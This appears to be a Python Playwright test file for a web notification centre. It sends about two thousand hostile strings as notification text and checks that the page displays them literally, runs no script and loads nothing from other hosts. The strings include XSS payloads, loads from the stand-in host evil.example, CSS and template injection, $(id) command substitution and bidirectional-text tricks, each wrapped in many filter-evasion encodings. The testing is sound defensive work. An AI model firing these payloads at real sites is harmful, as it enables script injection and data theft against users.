# SPDX-License-Identifier: Apache-2.0
"""Texts that want to be markup, style, addresses, templates or another direction: what the page shows of them."""

import html
import itertools
import urllib.parse

from badges import until
from center import CATEGORY, Center
from playwright.sync_api import expect
from rows import TITLES, Caller, allow, in_parallel, listed, walk
from surfaces import says
from visit import Visit, link, row

COUNT = 2001
TOPIC = "com.example.attacks"
# Whoever runs is found out by this, and whoever loads by the host, which is no name of the centre.
RUN = "window.attacked=1"
HOST = "evil.example"
MARKUP = [
    f"<script>{RUN}</script>", f"<script src=//{HOST}/x.js></script>", f"<img src=x onerror={RUN}>",
    f"<img src=//{HOST}/x.png>", f"<svg onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src=//{HOST}/></iframe>",
    f"<object data=//{HOST}/x.swf></object>", f"<embed src=//{HOST}/x>", f"<base href=//{HOST}/>",
    f"<link rel=stylesheet href=//{HOST}/x.css>", f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<form action=//{HOST}/><button autofocus>Send</button></form>", f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=//{HOST}/x autoplay>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img onerror={RUN}>",
    f"<template><img src=x onerror={RUN}></template>", f"<a href=javascript:{RUN}>Open</a>",
    f"<a href=//{HOST}/ ping=//{HOST}/ping>Open</a>", "<!--", "]]>", "<![CDATA[", "<plaintext>", "</article></main>",
    "&lt;b&gt;&amp;amp;&#x202e;&NotAnEntity;", f"<link rel=preload as=image href=//{HOST}/x>",
]
STYLE = [
    f"<style>*{{background:url(//{HOST}/x)}}</style>", f"<style>@import '//{HOST}/x.css';</style>",
    "}*{display:none!important}", f"expression({RUN})", f"<b style='background:url(//{HOST}/x)'>", "\\3c script\\3e",
]
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"//{HOST}/", f"https://{HOST}/?q=", f"\\\\{HOST}\\share", f"https://localhost@{HOST}/",
    "mailto:a@b?cc=c", "blob:null/x",
]
TEMPLATES = [
    f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "`id`", "$(id)",
    "%s%n%x", "\\u003cscript\\u003e", "__proto__", "constructor", "toString", "[object Object]", "undefined",
    "null", "NaN",
]
DIRECTIONS = [
    "\u202egnp.exe", "\u2066left\u2067right", "\u2069\u2069\u2069out", "\u061c\u200e\u200f", "\ufeffbom", "\u202a" * 60,
    "e" + "\u0301" * 80, "\u2028line\u2029paragraph", "\U000e0041tag\U000e007f",
    "\u200d\ufe0f\u20e3", "\uff1cscript\uff1e",
    "مرحبا <b>עולם</b>", "\u0001\u0007\u001b[31m\u009b2J\r\n\ttab", "\ud7ff\ue000\U0010ffff",
]
ATTACKS = [*MARKUP, *STYLE, *ADDRESSES, *TEMPLATES, *DIRECTIONS]
# What an attack stands in: raw, behind something that it has to close, and written otherwise.
FRAMES = [
    str, lambda text: f'">{text}', lambda text: f"'>{text}", lambda text: f"</title>{text}",
    lambda text: f"</textarea>{text}", lambda text: f"</script>{text}", lambda text: f"-->{text}",
    lambda text: f"</bdi></h2>{text}", lambda text: f'" onmouseover="{text}', lambda text: f"x{text}" * 3, str.upper,
    str.swapcase, html.escape, urllib.parse.quote, lambda text: "".join(f"&#{ord(each)};" for each in text[:200]),
    lambda text: f" \n {text} \n ", lambda text: f"\u202e{text}", lambda text: f"\u2067{text}",
    lambda text: text.replace("<", "\\x3c"), lambda text: text.replace("<", "%253c"),
    lambda text: f"{text}\u0001{text}", lambda text: text.replace("<", "<\u0001"), lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"), lambda text: f"{text}&nbsp", lambda text: f"**{text}**",
    lambda text: f"[x]({text})",
    lambda text: f"<b>{text}</b>", lambda text: f"<!--{text}", lambda text: f"\u2069\u2069{text}",
    lambda text: text[::-1],
    lambda text: f"{text}\u200b\u2060", lambda text: f"&lt;{text}&gt;",
]
SPY = """
    window.broken = [];
    for (const name of ["securitypolicyviolation", "error", "unhandledrejection"]) {
        addEventListener(name, (event) => {
            window.broken.push(event.violatedDirective ?? event.message ?? String(event.reason ?? event.type));
        }, true);
    }
"""
# The three texts of each row, in their order, however far down; what a person does not see as characters as well.
TEXTS = """[".notification h2", ".notification .subtitle", ".notification .body"].map((part) =>
    row.querySelector(part)?.textContent ?? "")"""
# Elements that no row is made of.
FOREIGN = """() => [...document.querySelectorAll("article *, .banner *")].map(({ localName }) => localName)
    .filter((name) => !NAMES.has(name))""".replace("NAMES", "new Set(" + str([
        "div", "header", "span", "bdi", "img", "time", "details", "summary", "button", "h2", "p", "footer", "form",
        "textarea", "dl", "dt", "dd"]) + ")")


def attacks():
    """Exactly as many texts as are wanted, no two alike."""
    made = (frame(attack) for frame, attack in itertools.product(FRAMES, ATTACKS))
    found = list(itertools.islice(dict.fromkeys(made), COUNT))
    assert len(found) == COUNT, f"there are {len(found)} attacks"
    return found


def add(caller, number, texts):
    title, subtitle, body = texts
    alert = {"title": title, "subtitle": subtitle, "body": body}
    payload = {"aps": {"alert": alert, "thread-id": f"thread {number}", "category": "message"}}
    caller.call(TOPIC, "add", request={"identifier": f"attack {number}", "payload": payload})


def check(page, sent, found, seen):
    """Texts as they were sent, and no element that is none of the page's."""
    lost = [texts for texts in sent if texts not in found]
    seen.append(f"{len(sent) * 3} texts")
    assert not lost, f"{len(lost)} differ: {lost[0]!r}, shown: {next(iter(set(found) - set(sent)), None)!r}"
    foreign = page.evaluate(FOREIGN)
    assert not foreign, f"the page has {set(foreign)}"
    assert page.evaluate("window.attacked") is None, "a script of a sender ran"


def elsewhere(table, center, visit, page):
    """The hardest of them in everything else that shows texts."""
    caller, owner = Caller(center), center.owner
    lock = visit.tab(f"http://{center.authority}/lock")
    expect(lock.locator("h1, time").first).to_be_visible()
    hardest = [MARKUP[0], MARKUP[2], MARKUP[6], STYLE[0], ADDRESSES[0], TEMPLATES[1], DIRECTIONS[0], DIRECTIONS[12]]
    actions = [{"identifier": text, "title": text, "options": [], **more} for text, more in (
        (MARKUP[0], {"text": {"button": MARKUP[3], "placeholder": MARKUP[2]}}), (MARKUP[4], {}))]
    caller.call(TOPIC, "setCategories", categories=[{"identifier": "message", "options": [], "actions": actions}])

    def shows(part, text, what):
        assert part.evaluate_all("(all, text) => all.some(({ textContent }) => textContent === text)", text), what

    page.bring_to_front()
    page.evaluate("scrollTo(0, 0)")
    says(visit, page, visible=True, focused=True, banners=True)
    with row(table, "in a banner, its actions, its row's details, a search, and on a lock view as well") as seen:
        for number, text in enumerate(hardest, 10_000):
            add(caller, number, (text, text, text))
            shown = page.locator(".banner").first
            until(page, "no banner", lambda: page.locator(".banner h2").evaluate_all(
                "(all, text) => all.some(({ textContent }) => textContent === text)", text))
            names = shown.get_by_role("button").evaluate_all("all => all.map(({ textContent }) => textContent)")
            assert actions[1]["title"] in names, names
            while page.locator(".banner").count():
                page.locator(".banner").first.get_by_role("button", name="Put away").click()
            until(page, "no row", lambda: page.evaluate(TITLES)[:1] == [text])
            card = page.locator(".notification").first
            card.focus()
            page.keyboard.press("i")
            expect(card.locator(".details")).to_be_visible()
            until(lock, "the lock view has it not", lambda: lock.locator("article h2").evaluate_all(
                "(all, text) => all.some(({ textContent }) => textContent === text)", text))
            foreign = page.evaluate(FOREIGN) + lock.evaluate(FOREIGN)
            assert not foreign, f"{text!r} brings {set(foreign)}"
        page.keyboard.press("s")
        page.get_by_role("searchbox").fill(hardest[0])
        until(page, "it is not found", lambda: page.locator(".results h2").evaluate_all(
            "(all, text) => all.some(({ textContent }) => textContent === text)", hardest[0]))
        assert not page.evaluate(FOREIGN)
        page.keyboard.press("Escape")
        seen.append(f"{len(hardest)} texts")
    with row(table, "and in the history"):
        owner.ask("DELETE", f"/v1/notifications?app={TOPIC}")
        page.get_by_role("button", name="History", exact=True).click()
        expect(page.locator(".past").first).to_be_visible()
        for text in hardest:
            shows(page.locator(".past *"), text, "it is not in the history")
        assert not page.evaluate(FOREIGN)
    caller.connection.close()


def run(table, browser, _, options):
    center = Center(options.programs)
    requested = []
    visit = Visit(browser, center)
    visit.context.add_init_script(SPY)
    visit.context.on("request", lambda request: requested.append(request.url))
    try:
        allow(center, [TOPIC], [CATEGORY])
        texts = attacks()
        sent = [tuple(texts[start:start + 3]) for start in range(0, COUNT, 3)]
        page = visit.tab(link(center))
        expect(page.get_by_text("Nothing new.")).to_be_visible()
        with row(table, f"{len(sent) * 3} attacks come as texts") as seen:
            in_parallel(center, list(enumerate(sent)), lambda caller, item: add(caller, *item))
            newest = listed(center)[:1]
            until(page, "the newest is not on top", lambda: page.evaluate(TITLES)[:1] == newest)
            found = [tuple(texts) for texts in walk(page, TEXTS)]
            check(page, sent, found, seen)
        elsewhere(table, center, visit, page)
        with row(table, "no rule was broken, nothing was loaded from elsewhere") as seen:
            seen.append(f"{len(requested)} requests")
            for each in visit.context.pages:
                broken = each.evaluate("window.broken")
                assert not broken, f"{len(broken)} faults, {broken[0]}"
            strangers = [address for address in requested if not address.startswith(f"http://{center.authority}/")]
            assert not strangers, strangers[0]
            assert not visit.complaints, visit.complaints[0]
    finally:
        visit.close()
        center.close()
